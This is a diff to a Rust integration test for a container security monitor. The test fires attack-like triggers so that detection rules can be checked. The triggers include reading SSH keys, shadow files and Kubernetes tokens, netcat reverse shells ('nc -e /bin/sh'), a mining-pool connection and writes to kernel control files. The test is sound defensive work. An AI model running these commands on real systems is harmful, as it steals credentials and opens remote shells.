@@ -10,8 +10,10 @@ use std::time::{Duration, Instant};
 
 use monitor_tests::containers::have;
 use monitor_tests::harness::{MonitorProcess, skip_unless_root, workspace_root};
-use monitor_tests::live::{LiveContainer, Row, Shape, Verdict, build_helper, print_table, put};
-use monitor_tests::prom::free_port;
+use monitor_tests::live::{
+    LISTENING_SH, LiveContainer, Row, Shape, Verdict, build_helper, print_table, put,
+};
+use monitor_tests::prom::http_get;
 use serde_json::Value;
 
 
@@ -34,6 +36,21 @@ const fn chk(rule: &'static str, marker: &'static str, label: &'static str) -> C
         marker,
         label,
     }
+}
+
+/// Names of the rules in rules/*.yaml (the Falco-loadable files).
+fn shipped_rule_names() -> std::collections::BTreeSet<String> {
+    let dir = workspace_root().join("rules");
+    let mut names = std::collections::BTreeSet::new();
+    for e in std::fs::read_dir(&dir).expect("rules/") {
+        let p = e.expect("rules/ entry").path();
+        if p.extension().is_some_and(|x| x == "yaml") {
+            let text = std::fs::read_to_string(&p).expect("rule file");
+            names.extend(text.lines().filter_map(|l| l.strip_prefix("- rule: ")).map(|n| n.trim().to_string()));
+        }
+    }
+    assert!(names.len() >= 50, "{} rules in {}", names.len(), dir.display());
+    names
 }
 
 fn alerts_from(seen: &[String], cid: &str) -> Vec<Value> {
@@ -132,12 +149,11 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
     .unwrap();
 
     let rules = workspace_root().join("rules");
-    let addr = format!("127.0.0.1:{}", free_port());
     let mut mon = MonitorProcess::spawn(
         &[
             "run",
             "--metrics-address",
-            &addr,
+            "127.0.0.1:0",
             "--no-rate-limit",
             "--containers-only",
             "--rules",
@@ -148,6 +164,7 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         Some("Monitor ready"),
     )
     .expect("monitor run starts");
+    let addr = mon.metrics_address().expect("metrics address");
 
     // ---- attack container --------------------------------------------------------------
     let vda = std::fs::metadata("/dev/vda").ok().map(|m| {
@@ -227,6 +244,13 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
     ));
     ex(&["cat", "/root/.ssh/id_rsa"]);
     checks.push(chk("Read of SSH private key", "id_rsa", "cat id_rsa"));
+    // A second name for the inode: its later reads open a path the read rules do not watch.
+    ex(&["ln", "/etc/shadow", "/tmp/shadow-copy"]);
+    checks.push(chk(
+        "Hard link to credential file",
+        "shadow-copy",
+        "held-out ln /etc/shadow (hard link)",
+    ));
     ex(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
     checks.push(chk(
         "Read of Kubernetes service account token",
@@ -290,6 +314,13 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "/tmp/dropper",
         "cp busybox /tmp/dropper",
     ));
+    // A script's executable is its interpreter: the rule matches the file execve was given.
+    sh("printf '#!/bin/sh\\ntrue\\n' > /tmp/stage.sh && chmod 755 /tmp/stage.sh && /tmp/stage.sh");
+    checks.push(chk(
+        "Executable run from temporary directory",
+        "stage.sh",
+        "held-out #! script in /tmp",
+    ));
     sh("cp /bin/busybox /dev/shm/shmx && /dev/shm/shmx true");
     checks.push(chk(
         "Executable run from temporary directory",
@@ -339,7 +370,9 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "169.254.169.254",
         "connect 169.254.169.254:80",
     ));
-    sh("nc -l -p 4445 >/dev/null </dev/null & sleep 0.3; nc 127.0.0.1 4445 -e /bin/sh; wait");
+    sh(&format!(
+        "{LISTENING_SH}nc -l -p 4445 >/dev/null </dev/null & listening 115D; nc 127.0.0.1 4445 -e /bin/sh; wait"
+    ));
     checks.push(chk("Reverse shell", "", "nc -e /bin/sh"));
     checks.push(chk(
         "Standard stream redirected to network in container",
@@ -362,7 +395,9 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "nc -w 1 127.0.0.1 4448",
         "held-out renamed busybox copy running nc",
     ));
-    sh("nc -l -p 4446 >/dev/null </dev/null & sleep 0.3; nc 127.0.0.1 4446 -e /bin/awk; wait");
+    sh(&format!(
+        "{LISTENING_SH}nc -l -p 4446 >/dev/null </dev/null & listening 115E; nc 127.0.0.1 4446 -e /bin/awk; wait"
+    ));
     checks.push(chk(
         "Interpreter with network standard I/O",
         "awk",
@@ -386,9 +421,9 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "stratum+tcp",
         "stratum URL in argv",
     ));
-    sh(
-        "nc -l -p 3333 >/dev/null </dev/null & sleep 0.3; nc -w 1 203.0.113.7 3333 </dev/null; kill %1 2>/dev/null; wait",
-    );
+    sh(&format!(
+        "{LISTENING_SH}nc -l -p 3333 >/dev/null </dev/null & listening 0D05; nc -w 1 203.0.113.7 3333 </dev/null; kill %1 2>/dev/null; wait",
+    ));
     checks.push(chk(
         "Connection to mining pool port",
         "203.0.113.7",
@@ -527,6 +562,12 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         not_fireable.push(("Ptrace attach to another process", "no static helper"));
         not_fireable.push(("BPF program or map from container", "no static helper"));
     }
+    ex(&["find", "/", "-xdev", "-perm", "-4000"]);
+    checks.push(chk(
+        "Search for setuid programs in container",
+        "-perm -4000",
+        "busybox find -perm -4000",
+    ));
     sh("mount -t tmpfs none /mnt");
     checks.push(chk("Mount in container", "tmpfs", "mount -t tmpfs"));
     sh("nsenter -t 1 -m -- true");
@@ -560,6 +601,21 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "Kernel helper path written",
         "core_pattern",
         "open core_pattern for write (nothing written)",
+    ));
+    // Opened for append and nothing written: harmless whether the runtime's read-only bind
+    // refuses it or not.
+    sh("true >> /proc/sysrq-trigger");
+    checks.push(chk(
+        "Host kernel control file written from container",
+        "sysrq-trigger",
+        "open /proc/sysrq-trigger for write (nothing written)",
+    ));
+    // Opened for append and nothing written: safe whether sysfs lets it through or not.
+    sh("true >> /sys/kernel/uevent_helper");
+    checks.push(chk(
+        "Kernel helper path written",
+        "uevent_helper",
+        "held-out uevent_helper open for write (refused or not)",
     ));
     ex(&["cat", "/var/run/docker.sock"]);
     checks.push(chk(
@@ -618,8 +674,12 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
 
     // ---- verdicts ------------------------------------------------------------------------
     let cid = a.short_id().to_string();
-    let deadline = Instant::now() + Duration::from_secs(20);
+    // One shared window for every alert still in flight. It only runs out on a miss; a
+    // debug-build daemon on a loaded 2-core CI machine has been seen to lag by seconds.
+    let waiting = Instant::now();
+    let deadline = waiting + Duration::from_secs(60);
     let mut results: Vec<(String, Option<String>)> = Vec::new();
+    let mut reported_late = false;
     for c in &checks {
         let left = deadline
             .saturating_duration_since(Instant::now())
@@ -629,6 +689,14 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
                 && v["container"]["id"] == cid.as_str()
                 && v["output"].as_str().is_some_and(|o| o.contains(c.marker))
         });
+        if hit.is_some() && !reported_late && waiting.elapsed() > Duration::from_secs(5) {
+            reported_late = true;
+            eprintln!(
+                "late alert {:?}: {:.1} s after the triggers",
+                c.label,
+                waiting.elapsed().as_secs_f64()
+            );
+        }
         if hit.is_none() {
             // Diagnostics for a miss: what this rule did say, and whether the daemon reported
             // dropping events (its overload alert).
@@ -639,6 +707,23 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
             }
         }
         results.push((c.rule.to_string(), hit.map(|_| c.label.to_string())));
+    }
+    // Where events could have been lost or left unattributed on the way to the rules: printed
+    // when a trigger missed or ordinary work alerted.
+    let diagnose = || {
+        let m = http_get(&format!("http://{addr}/metrics")).unwrap_or_default();
+        for l in m.lines().filter(|l| {
+            !l.starts_with('#')
+                && !l.ends_with(" 0")
+                && ["dropped", "decode_errors", "evictions", "attribution_misses", "proctable"]
+                    .iter()
+                    .any(|k| l.contains(k))
+        }) {
+            eprintln!("diagnostics: {l}");
+        }
+    };
+    if results.iter().any(|(_, hit)| hit.is_none()) {
+        diagnose();
     }
 
     // ---- benign container ----------------------------------------------------------------
@@ -753,6 +838,9 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
     for v in workload.iter().chain(runtime.iter().take(3)) {
         eprintln!("  {} | {}", v["rule"], v["output"].as_str().unwrap_or(""));
     }
+    if !workload.is_empty() || !runtime.is_empty() {
+        diagnose();
+    }
     let attack_runtime = alerts_from(&mon.seen, &cid)
         .into_iter()
         .filter(|v| {
@@ -773,8 +861,12 @@ fn shipped_rules_fire_on_real_behaviour_and_stay_quiet_on_ordinary_work() {
         "{} rules did not fire on their live trigger",
         missed.len()
     );
-    let covered = rows.len();
-    assert!(covered >= 57, "table covers {covered} of 57 rules");
+    // Every rule of the Falco-loadable files has a live trigger or a reason it cannot fire here
+    // (monitor.d's runtime-only rules are exercised by the side_doors tests).
+    let shipped = shipped_rule_names();
+    let table: std::collections::BTreeSet<String> = rows.iter().map(|r| r.rule.clone()).collect();
+    let untested: Vec<&String> = shipped.iter().filter(|r| !table.contains(*r)).collect();
+    assert!(untested.is_empty(), "shipped rules without a live trigger: {untested:?}");
     assert!(workload.is_empty(), "ordinary work raised alerts");
     // The runtime's own setup (runc init's unshare/setns/mount/setuid) is not the workload's:
     // proc.is_container_runtime keeps it quiet, also across runc's fd re-exec of itself and
